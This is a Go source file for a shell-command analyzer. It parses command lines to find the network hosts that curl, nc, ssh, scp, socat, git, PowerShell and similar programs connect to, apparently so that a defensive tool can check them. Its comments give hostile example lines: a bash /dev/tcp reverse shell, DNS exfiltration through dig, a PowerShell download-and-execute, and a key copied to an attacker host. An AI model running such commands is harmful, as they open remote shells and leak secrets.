package shellcmd

import (
	"maps"
	"slices"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// Hosts a line's programs reach by a name written alone. A reader of the
// value alone cannot tell get.evil.example from install.sh (both are a
// dotted word, and .sh is a country's domain); the program given it can:
// curl, ssh, nc, scp's host:path, git's. Lineage counts such a host a
// place on the network only when the line gives it to one of them.

// A dialer is a program that connects to the hosts its words name.
type dialer struct {
	// short are the letters of its short options that take a value
	// (getopt: -o FILE, -oFILE, the last of a cluster -sSLo FILE).
	short string
	// long are its options that take the next word as their value
	// (--output FILE; --output=FILE is one word).
	long []string
	// single: its options are words after one dash and take no cluster
	// (openssl -connect, PowerShell's -Uri, find-style), matched in any
	// case; short is then unused.
	single bool
	// hostOptions are the options whose value names a host too (curl's
	// proxy -x, ssh's jump host -J, a database client's -h).
	hostOptions []string
	// operands is how many leading operands name a host: 0 every one
	// (curl URL…, nc HOST PORT), 1 the first (ssh HOST CMD…, whose
	// command is read as a line of its own), -1 none (mysql, whose
	// operand is a database).
	operands int
	// colon: an operand names a host only before a colon (scp's and
	// rsync's [user@]host:path, git's scp-like host:repo.git); a word
	// without one is a local file.
	colon bool
	// socat: an operand is a socat address (TCP:host:port).
	socat bool
	// routes are the options whose value sends a connection to another
	// host than the one named (curl's --connect-to, --resolve).
	routes []string
	// settings are the options whose value is a setting NAME=VALUE, a
	// proxy among them (wget -e https_proxy=HOST).
	settings []string
}

// curlValues are curl's long options that take a value, the common ones:
// an option missing here takes its value for an operand, which can only
// make a host of a word (over-approximated, as the reading fails closed).
var curlValues = []string{"--output", "--header", "--data", "--data-raw", "--data-binary", "--data-urlencode",
	"--data-ascii", "--json", "--request", "--user", "--user-agent", "--referer", "--form", "--form-string",
	"--write-out", "--upload-file", "--max-time", "--connect-timeout", "--cookie", "--cookie-jar", "--config",
	"--cert", "--key", "--cacert", "--capath", "--range", "--continue-at", "--retry", "--retry-delay",
	"--retry-max-time", "--output-dir", "--proxy-user", "--dump-header", "--trace", "--trace-ascii",
	"--limit-rate", "--max-filesize", "--speed-limit", "--speed-time", "--time-cond", "--ciphers", "--oauth2-bearer",
	"--aws-sigv4", "--interface", "--dns-servers", "--resolve", "--connect-to", "--cert-type", "--key-type",
	"--pass", "--quote", "--stderr", "--variable", "--expand-url", "--url-query"}

// wgetValues are wget's long options that take the next word as a value.
var wgetValues = []string{"--output-document", "--output-file", "--append-output", "--directory-prefix",
	"--user-agent", "--header", "--execute", "--tries", "--timeout", "--wait", "--post-data", "--post-file",
	"--user", "--password", "--http-user", "--http-password", "--input-file", "--base", "--quota", "--level",
	"--accept", "--reject", "--domains", "--exclude-domains", "--include-directories", "--exclude-directories",
	"--load-cookies", "--save-cookies", "--ca-certificate", "--certificate", "--private-key", "--limit-rate",
	"--method", "--body-data", "--body-file", "--referer", "--bind-address"}

var curlDialer = dialer{short: "AbcCdDeEFHKmoPQrtTuUwxXyYz", long: curlValues,
	hostOptions: []string{"-x", "--proxy", "--preproxy", "--url", "--socks4", "--socks4a", "--socks5", "--socks5-hostname"},
	routes:      []string{"--connect-to", "--resolve"}}

var netcatDialer = dialer{short: "CiIMmOpqsTVwWxXePcG", long: []string{"--source", "--source-port", "--wait", "--proxy",
	"--proxy-type", "--exec", "--sh-exec", "--lua-exec", "--max-conns", "--idle-timeout", "--output", "--hex-dump"},
	hostOptions: []string{"-x", "--proxy"}}

var lookupDialer = dialer{short: "bcfIikpqtTyWwsSmlg", long: []string{"--port", "--type", "--class"}}

// dbClient reads a database client's host option only (-h HOST, -hHOST,
// --host=HOST): its other words are read as operands, which name none
// (mysql -p prompts, -psecret is a password: no table says which).
var dbClient = dialer{hostOptions: []string{"-h", "--host"}, operands: -1}

var webCmdlet = dialer{single: true, long: []string{"-outfile", "-method", "-headers", "-body", "-contenttype", "-useragent",
	"-credential", "-timeoutsec", "-infile", "-sessionvariable", "-websession", "-maximumredirection", "-proxycredential",
	"-certificate", "-certificatethumbprint", "-form", "-custommethod", "-transferencoding", "-authentication", "-token"},
	hostOptions: []string{"-uri", "-proxy"}, operands: 1}

// dialers are the programs Hosts reads, by ProgramName.
var dialers = map[string]dialer{
	"curl": curlDialer, "curlie": curlDialer,
	"wget":  {short: "aABDeiIlloOPQRtTUwX", long: wgetValues, settings: []string{"-e", "--execute"}},
	"wget2": {short: "aABDeiIlloOPQRtTUwX", long: wgetValues, settings: []string{"-e", "--execute"}},
	"aria2c": {short: "dijlosx", long: []string{"--dir", "--out", "--input-file", "--header", "--user-agent", "--all-proxy"},
		hostOptions: []string{"--all-proxy", "--http-proxy", "--https-proxy"}},
	// HTTPie and xh: [METHOD] URL [ITEM…], the items Header:value and
	// field=value (hostItem leaves them out).
	"http": {short: "aAovfdbFp", long: []string{"--auth", "--auth-type", "--output", "--print", "--pretty", "--style",
		"--session", "--proxy", "--cert", "--cert-key", "--verify", "--timeout", "--format-options"}, operands: 2},
	"https": {short: "aAovfdbFp", long: []string{"--auth", "--auth-type", "--output", "--print", "--pretty", "--style",
		"--session", "--proxy", "--cert", "--cert-key", "--verify", "--timeout"}, operands: 2},
	"xh": {short: "aAop", long: []string{"--auth", "--auth-type", "--output", "--print", "--proxy", "--session",
		"--timeout", "--verify", "--cert", "--cert-key"}, operands: 2},
	"xhs":  {short: "aAop", long: []string{"--auth", "--auth-type", "--output", "--print", "--proxy", "--session"}, operands: 2},
	"lynx": {single: true, long: []string{"-cfg", "-cmd_log", "-cmd_script", "-useragent"}},
	"w3m":  {single: true, long: []string{"-o", "-config", "-header", "-t", "-cols"}}, "links": {}, "elinks": {}, "browsh": {},
	"nc": netcatDialer, "ncat": netcatDialer, "netcat": netcatDialer, "pwncat": netcatDialer,
	"telnet":      {short: "ebelnS", operands: 1},
	"socat":       {short: "dlT", socat: true},
	"ssh":         {short: sshValueLetters, hostOptions: []string{"-J"}, operands: 1},
	"mosh":        {long: []string{"--port", "--ssh", "--server", "--client", "--predict", "--family", "--bind-server"}, operands: 1},
	"sftp":        {short: "BbcDFiJlLoPRSsX", hostOptions: []string{"-J"}, operands: 1},
	"ssh-copy-id": {short: "ioFpJ", hostOptions: []string{"-J"}, operands: 1},
	"scp":         {short: "cFiJlLoPSDX", hostOptions: []string{"-J"}, colon: true},
	"rsync":       {short: "eBfMT@", long: slices.Sorted(maps.Keys(remoteCopyValueOptions["rsync"])), colon: true},
	"ftp":         {short: "P", operands: 1}, "tftp": {operands: 1}, "lftp": {short: "eupfc", operands: 1},
	"ping": {short: "cfiIlmMpQsStTwW"}, "ping6": {short: "cfiIlmMpQsStTwW"},
	"traceroute": {short: "fgimNpqswtxzAM"}, "traceroute6": {short: "fgimNpqswtxzAM"}, "tracepath": {short: "lmp"},
	"mtr": {short: "abBcfimsQPTuUyYZ"}, "nmap": {short: "pioSe", long: []string{"--exclude", "--excludefile", "--script", "--script-args"}},
	"dig": lookupDialer, "kdig": lookupDialer, "drill": lookupDialer, "nslookup": lookupDialer, "host": lookupDialer,
	"whois": {short: "hpiTsg", hostOptions: []string{"-h"}},
	"openssl": {single: true, long: []string{"-cert", "-key", "-cafile", "-capath", "-servername", "-out", "-in",
		"-starttls", "-sess_out", "-sess_in", "-alpn", "-cipher", "-ciphersuites", "-verify", "-name"},
		hostOptions: []string{"-connect", "-proxy", "-host"}},
	// kubectl's and oc's API server, given the cluster's credentials.
	"kubectl": {short: "s", hostOptions: []string{"-s", "--server"}, operands: -1},
	"oc":      {short: "s", hostOptions: []string{"-s", "--server"}, operands: -1},
	"mysql":   dbClient, "mariadb": dbClient, "mysqldump": dbClient, "psql": dbClient, "pg_dump": dbClient,
	"pg_dumpall": dbClient, "pg_restore": dbClient, "redis-cli": dbClient, "mongosh": {long: []string{"--host", "--port"}, hostOptions: []string{"--host"}, operands: 1},
	"mongo":             {long: []string{"--host", "--port"}, hostOptions: []string{"--host"}, operands: 1},
	"invoke-webrequest": webCmdlet, "iwr": webCmdlet, "invoke-restmethod": webCmdlet, "irm": webCmdlet,
}

// gitDialing are git's commands that reach a repository an operand names.
var gitDialing = []string{"clone", "fetch", "pull", "push", "ls-remote", "remote", "submodule", "archive"}

// Hosts returns the hosts a command line gives a program that connects to
// them — curl get.evil.example, wget 203.0.113.9/x, ssh deploy.evil.example,
// nc 203.0.113.9 4444, scp key evil.example:keys, git clone
// evil.example:x.git, curl -x proxy.evil.example … — past wrappers, inside
// sh -c and the line ssh runs on its host: each as the line writes it,
// lower-cased, without a scheme, a user, a port or a path, sorted and
// without duplicates (at most MaxPrograms). What is a host is not judged
// here (lineage's reading of a host name is): a word of a dialer's is
// taken for one, and a word not literal gives none.
func Hosts(line string) []string {
	c := collector{hosts: map[string]bool{}}
	c.line(line, 0)
	return slices.Sorted(maps.Keys(c.hosts))
}

// ArgvHosts is Hosts of an argument vector.
func ArgvHosts(argv []string) []string {
	c := collector{hosts: map[string]bool{}}
	c.argv(argv, 0)
	return slices.Sorted(maps.Keys(c.hosts))
}

func (c *collector) addHost(word string, colon bool) {
	if c.hosts == nil || len(c.hosts) >= MaxPrograms {
		return
	}
	// A host name has two labels at least, an IPv6 address colons: a
	// port (4444) or a dig option (+short) is neither.
	if h := hostOf(word, colon); strings.ContainsAny(h, ".:") {
		c.hosts[h] = true
	}
}

// wrapperValue reports whether a wrapper's word a, after the word prev,
// reads as a value of the wrapper's rather than the program it runs: a
// number or a duration (timeout 10, nice -n 5), a path (flock /tmp/l,
// chroot /srv), or the word after an option (sudo -u root).
func wrapperValue(a, prev string) bool {
	if strings.HasPrefix(prev, "-") && !strings.Contains(prev, "=") {
		return true
	}
	return strings.Contains(a, "/") || strings.TrimRight(strings.TrimLeft(a, "0123456789."), "smhd") == ""
}

// addHosts adds the hosts an option's value names, apart by commas (ssh
// -J jump1,user@jump2:22).
func (c *collector) addHosts(value string) {
	for _, v := range strings.Split(value, ",") {
		c.addHost(v, false)
	}
}

// dialed adds the hosts a call of a dialer (or git) names, when Hosts
// reads the line.
func (c *collector) dialed(name string, argv []string, known []bool) {
	if c.hosts == nil {
		return
	}
	switch name {
	case "git":
		c.gitDialed(argv, known)
		return
	case "docker", "podman", "nerdctl", "helm":
		c.registryLogin(name, argv, known)
		return
	case "openssl":
		if !slices.Contains(argv, "s_client") {
			return // its other commands read files (openssl x509 -in cert.pem)
		}
	}
	d, ok := dialers[name]
	if !ok {
		return
	}
	operands := 0
	for i := 1; i < len(argv); i++ {
		a := argv[i]
		if !known[i] {
			if !strings.HasPrefix(a, "-") {
				operands++
			}
			continue
		}
		opt, value, eq := strings.Cut(a, "=")
		switch {
		case a == "--":
			for j := i + 1; j < len(argv); j++ {
				if known[j] && d.operandHost(operands) {
					c.addHost(argv[j], d.colon)
				}
				operands++
			}
			return
		case d.single && strings.HasPrefix(a, "-") && len(a) > 1, strings.HasPrefix(a, "--"):
			if d.single {
				opt = strings.ToLower(opt)
			}
			takes := slices.Contains(d.long, opt) || slices.Contains(d.hostOptions, opt)
			if !eq && takes && i+1 < len(argv) {
				i++
				value = argv[i]
				eq = known[i]
			}
			if eq {
				c.optionHosts(d, opt, value)
			}
		case strings.HasPrefix(a, "-") && len(a) > 1:
			// A cluster: the first letter that takes a value takes the
			// rest of the word, or the next word when it is the last.
			k := strings.IndexAny(a[1:], d.short+hostLetters(d.hostOptions))
			if k < 0 {
				continue
			}
			opt, value = a[:1]+a[1+k:2+k], a[2+k:]
			given := true
			if value == "" {
				given = i+1 < len(argv) && known[i+1]
				if i+1 < len(argv) {
					i++
					value = argv[i]
				}
			}
			if given {
				c.optionHosts(d, opt, value)
			}
		default:
			switch {
			case !d.operandHost(operands) || d.operands == 2 && hostItem(a, operands):
			case d.socat:
				for _, h := range socatHosts(a) {
					c.addHost(h, false)
				}
			default:
				c.addHost(a, d.colon)
			}
			operands++
		}
	}
}

// optionHosts adds the hosts the value of a dialer's option opt names.
func (c *collector) optionHosts(d dialer, opt, value string) {
	switch {
	case slices.Contains(d.hostOptions, opt):
		c.addHosts(value)
	case slices.Contains(d.routes, opt):
		for _, h := range routeHosts(opt, value) {
			c.addHost(h, false)
		}
	case slices.Contains(d.settings, opt):
		if k, v, ok := strings.Cut(value, "="); ok {
			c.proxyHost(strings.TrimSpace(k), strings.TrimSpace(v))
		}
	}
}

// registryLogin adds the registry docker login (podman's, nerdctl's; helm
// registry login) sends the user's credentials to: its operand.
func (c *collector) registryLogin(name string, argv []string, known []bool) {
	at := 0
	switch sub, i := containerSubcommand(argv); {
	case name == "helm" && len(argv) > 2 && argv[1] == "registry" && argv[2] == "login":
		at = 2
	case name != "helm" && sub == "login":
		at = i
	default:
		return
	}
	for j := at + 1; j < len(argv); j++ {
		switch a := argv[j]; {
		case a == "-u" || a == "--username" || a == "-p" || a == "--password" || a == "--authfile" || a == "--cert-dir" ||
			a == "--cert-file" || a == "--key-file" || a == "--ca-file":
			j++
		case strings.HasPrefix(a, "-"):
		default:
			if known[j] {
				c.addHost(a, false)
			}
			return
		}
	}
}

// operandHost reports whether the operand at index n names a host: every
// one, the first, or (HTTPie's [METHOD] URL) one of the first two.
func (d dialer) operandHost(n int) bool {
	switch d.operands {
	case 0:
		return true
	case -1:
		return false
	default:
		return n < d.operands
	}
}

// hostItem reports whether an HTTPie operand is not its URL: a method
// (GET, POST) or, past the first, a request item (Header:value,
// field=value, field:=json, name@file).
func hostItem(a string, n int) bool {
	if n == 0 {
		return a != "" && strings.ToUpper(a) == a && !strings.ContainsAny(a, ".:/")
	}
	host, port, colon := strings.Cut(a, ":")
	return strings.ContainsAny(a, "=@") || colon && !strings.Contains(a, "/") && !(host != "" && digits(port))
}

// hostLetters are the letters of the short options among opts (-x, -J).
func hostLetters(opts []string) string {
	var b strings.Builder
	for _, o := range opts {
		if len(o) == 2 && o[0] == '-' {
			b.WriteByte(o[1])
		}
	}
	return b.String()
}

// routeHosts are the hosts curl's --connect-to HOST1:PORT1:HOST2:PORT2
// (HOST2) or --resolve HOST:PORT:ADDR[,ADDR…] (each ADDR) connects to in
// place of the URL's.
func routeHosts(opt, value string) []string {
	// The fields apart by colons outside an IPv6 address's brackets.
	var f []string
	depth, start := 0, 0
	for i, r := range value {
		switch r {
		case '[':
			depth++
		case ']':
			depth--
		case ':':
			if depth == 0 {
				f, start = append(f, value[start:i]), i+1
			}
		}
	}
	f = append(f, value[start:])
	switch {
	case len(f) < 3:
		return nil
	case opt == "--connect-to":
		return f[2:3]
	}
	return strings.Split(strings.Join(f[2:], ":"), ",")
}

// proxyVariables are the environment variables that send a program's
// connections through a proxy (curl, wget, pip, npm and git read them).
var proxyVariables = []string{"http_proxy", "https_proxy", "all_proxy", "ftp_proxy"}

// proxyHost adds the proxy an assignment in a command's environment names
// (HTTPS_PROXY=proxy.evil.example:3128 npm install, export ALL_PROXY=…).
func (c *collector) proxyHost(name, value string) {
	if slices.Contains(proxyVariables, strings.ToLower(name)) {
		c.addHost(value, false)
	}
}

// assignedProxy adds the proxy a literal assignment names, when Hosts
// reads the line.
func (c *collector) assignedProxy(a *syntax.Assign) {
	if c.hosts == nil || a.Name == nil || a.Value == nil {
		return
	}
	if v, ok := literal(a.Value); ok {
		c.proxyHost(a.Name.Value, v)
	}
}

// socatAddresses are socat's address types whose first field is a host.
var socatAddresses = []string{"tcp", "tcp4", "tcp6", "tcp-connect", "tcp4-connect", "tcp6-connect", "udp", "udp4",
	"udp6", "udp-connect", "udp-sendto", "openssl", "openssl-connect", "ssl", "socks", "socks4", "socks4a", "socks5",
	"proxy", "proxy-connect", "sctp-connect", "dccp-connect"}

// socatHosts are the hosts a socat address connects to (TCP:evil.example:443,fork;
// SOCKS4A:proxy:target:port, the proxy and the target through it); none
// for any other (STDIO, EXEC:…).
func socatHosts(a string) []string {
	kind, rest, ok := strings.Cut(a, ":")
	if !ok || !slices.Contains(socatAddresses, strings.ToLower(kind)) {
		return nil
	}
	rest, _, _ = strings.Cut(rest, ",")
	f := strings.Split(rest, ":")
	if k := strings.ToLower(kind); (strings.HasPrefix(k, "socks") || strings.HasPrefix(k, "proxy")) && len(f) > 1 {
		return f[:2]
	}
	return f[:1]
}

// ansiDialed adds the hosts a call of a dialer names when its words in
// $'…' are decoded, and those a word with an expansion writes literally
// (partHost: dig $(whoami).x.evil.example, curl "evil.example?d=$(…)").
func (c *collector) ansiDialed(call *syntax.CallExpr, argv []string, known []bool) {
	argv, known = slices.Clone(argv), slices.Clone(known)
	for i, w := range call.Args {
		if !known[i] {
			argv[i], known[i] = wordValue(w, true)
		}
		if !known[i] {
			argv[i], known[i] = partHost(w)
		}
	}
	c.dialed(ProgramName(argv[0]), argv, known)
}

// partHost is the part of a word with an expansion that names a host: its
// literal start when the host ends in it (evil.example?d=$(…),
// evil.example:"$DIR"), or its literal end after a dot or an @ (the
// labels after $(whoami). that a DNS lookup leaks data to; $USER@host).
func partHost(w *syntax.Word) (string, bool) {
	prefix, _ := wordPrefix(w, true)
	rest := prefix
	if _, r, ok := strings.Cut(prefix, "://"); ok {
		rest = r
	}
	if strings.ContainsAny(rest, "/?#:") {
		return prefix, true
	}
	if tail, _ := literalTail(w.Parts, false); len(tail) > 1 && (tail[0] == '.' || tail[0] == '@') {
		return tail[1:], true
	}
	return "", false
}

// literalTail is the literal text that ends a word's parts (inside double
// quotes when quoted), and whether it is all of them.
func literalTail(parts []syntax.WordPart, quoted bool) (tail string, whole bool) {
	for i := len(parts) - 1; i >= 0; i-- {
		switch p := parts[i].(type) {
		case *syntax.Lit:
			if quoted {
				tail = p.Value + tail
			} else {
				tail = unescape(p.Value) + tail
			}
		case *syntax.SglQuoted:
			if p.Dollar || quoted {
				return tail, false
			}
			tail = p.Value + tail
		case *syntax.DblQuoted:
			q, all := literalTail(p.Parts, true)
			if tail = q + tail; !all {
				return tail, false
			}
		default:
			return tail, false
		}
	}
	return tail, true
}

// devHost adds the host a redirection to bash's /dev/tcp/HOST/PORT (or
// /dev/udp/…) connects to: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1.
func (c *collector) devHost(target string) {
	for _, p := range []string{"/dev/tcp/", "/dev/udp/"} {
		if rest, ok := strings.CutPrefix(target, p); ok {
			host, _, _ := strings.Cut(rest, "/")
			c.addHost(host, false)
		}
	}
}

// gitDialed adds the hosts git's commands that reach a repository name in
// the scp-like form (evil.example:x.git, without a user: with one, or
// with a scheme, the value's own token names the place).
func (c *collector) gitDialed(argv []string, known []bool) {
	for j, a := range argv {
		// A proxy in git's config on the line: git -c http.proxy=HOST
		// clone …, git clone --config http.proxy=HOST ….
		kv, ok := strings.CutPrefix(a, "--config=")
		if !ok && (a == "-c" || a == "--config") && j+1 < len(argv) && known[j+1] {
			kv, ok = argv[j+1], true
		}
		if k, v, set := strings.Cut(kv, "="); ok && set && gitProxyKey(k) {
			c.addHost(v, false)
		}
	}
	i := gitAt(argv)
	if i < 0 || !slices.Contains(gitDialing, argv[i]) {
		return
	}
	for j := i + 1; j < len(argv); j++ {
		if a := argv[j]; known[j] && !strings.HasPrefix(a, "-") && remoteOperand(a) {
			c.addHost(a, true)
		}
	}
}

// gitProxyKey reports whether a git config key sets an HTTP proxy
// (http.proxy, http.https://x.example/.proxy).
func gitProxyKey(k string) bool {
	k = strings.ToLower(k)
	return (strings.HasPrefix(k, "http.") || strings.HasPrefix(k, "https.")) && strings.HasSuffix(k, ".proxy")
}

// refusedHosts adds the hosts a line read as words gives its dialers (one
// the parser refused, as PowerShell's & { iwr get.evil.example } is, one
// longer than MaxParsed, inline code that starts a process): each command
// between shell operators taken as words without their quotes, a
// dialer's read from its name on.
func (c *collector) refusedHosts(line string) {
	for _, cmd := range strings.FieldsFunc(line, func(r rune) bool { return strings.ContainsRune(";&|()<>`{}\n", r) }) {
		argv := strings.Fields(strings.Map(func(r rune) rune {
			if strings.ContainsRune(`\'"`, r) {
				return -1
			}
			return r
		}, cmd))
		for j, w := range argv {
			if n := ProgramName(w); n == "git" || hasDialer(n) {
				c.dialed(n, argv[j:], slices.Repeat([]bool{true}, len(argv)-j))
				break
			}
		}
	}
}

func hasDialer(name string) bool {
	_, ok := dialers[name]
	return ok
}

// psValueOptions are PowerShell's own options that take the next word
// (powershell -ExecutionPolicy Bypass -Command …), lower-cased, with their
// short forms.
var psValueOptions = []string{"executionpolicy", "ep", "ex", "windowstyle", "w", "outputformat", "o", "of",
	"inputformat", "if", "in", "version", "v", "configurationname", "config", "workingdirectory", "wd",
	"settingsfile", "custompipename", "psconsolefile"}

// psCommand is the command PowerShell runs from its arguments (-Command,
// -c, /c or, with none, its first word on), the words joined; false for
// a script file, an encoded command or a word not literal.
func psCommand(argv []string, known []bool) (string, bool) {
	from := func(j int) (string, bool) {
		return strings.Join(argv[j:], " "), j < len(argv) && !slices.Contains(known[j:], false)
	}
	for i := 1; i < len(argv) && known[i]; i++ {
		a := strings.ToLower(argv[i])
		opt, isOpt := strings.CutPrefix(a, "-")
		if !isOpt {
			opt, isOpt = strings.CutPrefix(a, "/")
		}
		switch {
		case !isOpt:
			return from(i)
		case opt == "c" || opt == "cwa" || strings.HasPrefix(opt, "com"):
			return from(i + 1)
		case opt == "f" || strings.HasPrefix(opt, "fi") || opt == "e" || strings.HasPrefix(opt, "ec") || strings.HasPrefix(opt, "enc"):
			return "", false
		case slices.Contains(psValueOptions, opt):
			i++
		}
	}
	return "", false
}

// psHosts adds the hosts PowerShell's command gives its cmdlets and
// programs (powershell -c "irm get.evil.example | iex", Scoop's way to
// install), read as a shell line: a pipeline of commands and their words
// parses alike. Hosts only: the programs it runs are read as they were.
func (c *collector) psHosts(argv []string, known []bool, depth int) {
	code, ok := psCommand(argv, known)
	if !ok || c.hosts == nil || depth >= maxDepth {
		return
	}
	names, remoteSet, gitFetched := c.names, c.remoteSet, c.gitFetched
	c.names = nil
	c.line(code, depth+1)
	c.names, c.remoteSet, c.gitFetched = names, remoteSet, gitFetched
}

// hostOf is the host a dialer's word names, lower-cased: past a scheme
// (https://) and a user (mallory@), before a path, a port or (colon) the
// colon of host:path; a DNS server's @8.8.8.8 without its @; an IPv6
// address without its brackets. "" when none is written.
func hostOf(w string, colon bool) string {
	w = strings.ToLower(strings.TrimSpace(w))
	if _, rest, ok := strings.Cut(w, "://"); ok {
		w, colon = rest, false
	} else if colon {
		if !remoteOperand(w) {
			return ""
		}
		w = w[:strings.IndexByte(w, ':')]
	}
	w = strings.TrimPrefix(w, "@")
	if i := strings.IndexAny(w, "/?#"); i >= 0 {
		w = w[:i]
	}
	if at := strings.LastIndexByte(w, '@'); at >= 0 {
		w = w[at+1:]
	}
	if strings.HasPrefix(w, "[") {
		w, _, _ = strings.Cut(w[1:], "]")
	} else if strings.Count(w, ":") == 1 {
		w, _, _ = strings.Cut(w, ":")
	}
	return strings.TrimSuffix(w, ".")
}
